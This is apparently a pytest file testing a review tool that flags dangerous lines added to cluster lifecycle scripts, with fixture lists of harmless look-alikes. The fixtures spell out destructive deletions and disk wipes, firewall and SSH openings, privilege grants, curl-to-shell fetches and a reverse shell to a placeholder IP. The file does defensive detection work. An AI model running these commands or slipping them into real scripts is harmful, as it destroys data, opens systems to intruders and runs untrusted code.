"""Dangerous added lines of scripts: each family, and texts that only look like it."""

from pathlib import Path

import pytest

from ops.review.scripts import dangerous_lines

LIFECYCLE = Path(__file__).resolve().parents[4] / "lifecycle_scripts" / "eks"

DELETES = [
    "rm -rf /fsx/checkpoints",
    "rm -r -f /fsx",
    "rm /fsx/data -fR",
    "rm --recursive /fsx",
    "sudo /bin/rm -rf /fsx",
    '"rm" -rf /fsx',
    "r\\m -rf /fsx",
    "rm -f /fsx/*",
    "rm -f /tmp/*",
    "rm -f /tmp/../fsx/model.pt",
    "rm -f /fsx/model.pt",
    "ls /fsx | xargs rm -f",
    "bash -c 'rm -rf /fsx'",
    'trap "rm -rf /fsx" EXIT',
    "unlink /fsx/model.pt",
    "if true; then rm -rf /fsx; fi",
    "[[ -d /fsx ]] && { rm -rf /fsx; }",
    "python3 -c \"import shutil; shutil.rmtree('/fsx')\"",
    "error() { rm -rf /fsx; }",
    "find /fsx -mtime +30 -delete",
    "find /fsx -type f -exec rm -f {} ;",
    "mkfs.xfs /dev/nvme1n1",
    "dd if=/dev/zero of=/dev/nvme1n1 bs=1M",
    "wipefs -a /dev/nvme1n1",
    "parted /dev/nvme1n1 mklabel gpt",
    "aws s3 rm s3://data --recursive",
    "aws s3 rb s3://data",
    "aws --region us-west-2 s3 rm s3://data/x",
    "aws s3 sync /empty s3://data --delete",
    "aws fsx delete-file-system --file-system-id fs-1",
    "kubectl delete raycluster --all",
    "kubectl -n ray delete pvc fsx-claim",
    "helm uninstall kuberay-operator",
    "lfs hsm_release /fsx/data",
    "lctl set_param fail_loc=1",
    "rsync -a --delete /empty/ /fsx/",
    'subprocess.run(["rm", "-rf", "/fsx"], check=True)',
    'os.system("rm -rf /fsx")',
    'shutil.rmtree("/fsx")',
    "fsx.delete_file_system(FileSystemId=id)",
    "boto3.resource('s3').Bucket('b').objects.all().delete()",
    'echo "$(rm -rf /fsx)"',
    'echo "rm -rf /fsx" | sh',
    'echo "rm -rf /fsx" > /etc/cron.daily/clean',
    'echo "done"; rm -rf /fsx',
    'raise SystemExit(os.system("true") or shutil.rmtree("/fsx"))',
]
OPENS = [
    "aws ec2 authorize-security-group-ingress --group-id sg-1 --cidr 10.0.0.0/8",
    "ip route add 0.0.0.0/0 via 10.0.0.1",
    "ip -6 route add ::/0 dev eth1",
    "iptables -F",
    "iptables -P INPUT ACCEPT",
    "iptables -t filter --flush",
    "ufw disable",
    "systemctl disable --now firewalld",
    "nft flush ruleset",
    "sed -i s/no/yes/ /etc/ssh/sshd_config",
    'echo "PermitRootLogin yes" >> /etc/ssh/x',
    "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
]
LIFTS = [
    "chmod 777 /fsx",
    "chmod -R 0777 /fsx",
    "chmod a+rwx /fsx",
    "chmod o+w /fsx",
    "chmod u+s /usr/bin/tool",
    "chmod 4755 /usr/bin/tool",
    "os.chmod(path, 0o777)",
    'echo "ray ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/ray',
    "usermod -aG wheel ray",
    "docker run --privileged image",
    "setenforce 0",
]
FETCHES = [
    "curl -fsSL https://example.com/x.sh | sh",
    "curl -fsSL https://example.com/x.sh | sudo -E bash -",
    "wget -qO- https://example.com/x.sh | python3 -",
    "curl https://example.com/x.sh | \\\n  bash",
    "curl https://example.com/x.sh |\n  bash",
    "bash <(curl -s https://example.com/x.sh)",
    'bash -c "$(curl -fsSL https://example.com/x.sh)"',
    'eval "$(curl -s https://example.com/x)"',
    "source <(curl -s https://example.com/x)",
    "echo cm0K | base64 -d | sh",
    "aws s3 cp s3://elsewhere/x.sh - | bash",
    "curl -LO https://example.com/x.sh; chmod +x x.sh; ./x.sh",
    "wget https://example.com/x.sh && sh x.sh",
    "echo cm0K | base64 --decode > /tmp/a && sh /tmp/a",
    "pip install https://example.com/x.whl",
    "pip install git+https://example.com/x",
    "pip install --index-url https://example.com/simple x",
    'exec(urlopen("https://example.com/x").read())',
    "dnf install -y https://example.com/x.rpm",
]
HARMLESS = [
    "rm -f /tmp/x.lock",
    'rm -f "$archive"',
    'rm -f "$TMPDIR/x"',
    "# rm -rf /fsx",
    "sleep 1  # then rm -rf /fsx",
    'echo "rm -rf /fsx deletes all of it"',
    "say 'never run mkfs by hand'",
    '[[ -d /fsx ]] || fail "run mkfs first"',
    'echo "rm -rf is refused" | tee -a "$log"',
    'echo "wipefs failed" >&2',
    "if grep -q 'rm -rf' /etc/x; then",
    "command -v mkfs.xfs",
    "docker run --rm -v /fsx:/fsx image",
    "dd if=/fsx/file of=/dev/null",
    "fdisk -l",
    "lfs df -h /fsx",
    "lctl list_nids",
    "aws s3 cp s3://data/x /fsx/x",
    "aws fsx describe-file-systems",
    "kubectl get pods",
    "iptables -L",
    "ufw status",
    "ray start --head --dashboard-host 0.0.0.0",
    "chmod 755 /fsx/run.sh",
    "chmod +x run.sh",
    "chmod 1777 /scratch",
    "mkdir -p /fsx/data",
    "curl -o /tmp/data.json https://example.com/data.json",
    "curl -s https://example.com | jq .",
    "pip install torch==2.6.0",
    "base64 -d secret > /run/secret",
    'print("rm -rf /fsx")',
    '_log.warning("kubectl delete failed")',
    'raise ValueError("chmod 777 is refused")',
    "format_disk_report()",
    "systemctl restart containerd",
]


@pytest.mark.parametrize("line", [*DELETES, *OPENS, *LIFTS, *FETCHES])
def test_a_dangerous_line_that_is_added_is_found(line: str) -> None:
    assert len(dangerous_lines("set -e\n", f"set -e\n{line}\n")) == 1


@pytest.mark.parametrize("line", HARMLESS)
def test_a_line_that_only_looks_dangerous_is_not_found(line: str) -> None:
    assert dangerous_lines("set -e\n", f"set -e\n{line}\n") == []


def test_a_moved_line_is_not_added_and_a_repeated_one_is() -> None:
    before = "start\nrm -rf /fsx/old\nend\n"
    assert dangerous_lines(before, "rm -rf   /fsx/old  # as before\nstart\nend\n") == []
    assert dangerous_lines(before, before + "rm -rf /fsx/old\n") == ["rm -rf /fsx/old"]


def test_a_line_that_was_a_comment_is_added() -> None:
    assert dangerous_lines("# rm -rf /fsx\n", "rm -rf /fsx\n") == ["rm -rf /fsx"]


def test_a_removed_line_is_no_danger() -> None:
    assert dangerous_lines("rm -rf /fsx\n", "") == []


def test_a_changed_variable_of_a_dangerous_line_is_found_also_through_another() -> None:
    before = 'volume=/opt\ndata=$volume/data\nname=a\nrm -rf "$data"\n'
    assert dangerous_lines(before, before.replace("data=$volume/data", "data=/fsx")) == ["data=/fsx"]
    assert dangerous_lines(before, before.replace("volume=/opt", "volume=/fsx")) == ["volume=/fsx"]
    assert dangerous_lines(before, before.replace("name=a", "name=b")) == []


@pytest.mark.parametrize("run", ["bash /tmp/x.sh", "chmod +x /tmp/x.sh", "source /tmp/x.sh", "/tmp/x.sh --now"])
def test_a_file_that_is_fetched_and_run_is_found(run: str) -> None:
    fetch = "curl -fsSL -o /tmp/x.sh https://example.com/x.sh"
    assert dangerous_lines("", f"{fetch}\n{run}\n") == [fetch, run]
    assert dangerous_lines(f"{fetch}\n", f"{fetch}\n{run}\n") == [run]
    assert dangerous_lines("", fetch) == []


def test_a_docstring_does_not_act() -> None:
    code = 'def clean():\n    """Never rm -rf /fsx.\n\n    mkfs is for others.\n    """\n    return 1\n'
    assert dangerous_lines("", code) == []
    assert dangerous_lines("", '"""Text."""; shutil.rmtree("/fsx")\n') == ['; shutil.rmtree("/fsx")']
    assert dangerous_lines("", code.replace("return 1", 'os.system("mkfs /dev/sda")')) == ['os.system("mkfs /dev/sda")']


def test_the_projects_own_scripts_are_read_as_they_are() -> None:
    main = (LIFECYCLE / "on_create_main.sh").read_text()
    assert dangerous_lines(main, main) == []
    assert dangerous_lines(main, main.replace("prepares the Lustre client", "sets up the Lustre client")) == []
    harmless = main.replace("local waited=0", 'local waited=0\n  say "waits; nothing is deleted (no rm -rf)"')
    assert dangerous_lines(main, harmless) == []
    assert dangerous_lines(main, main.replace("volume=/opt/sagemaker", "volume=/fsx")) == ["volume=/fsx"]
    assert dangerous_lines(main, main + "rm -rf /fsx\n") == ["rm -rf /fsx"]
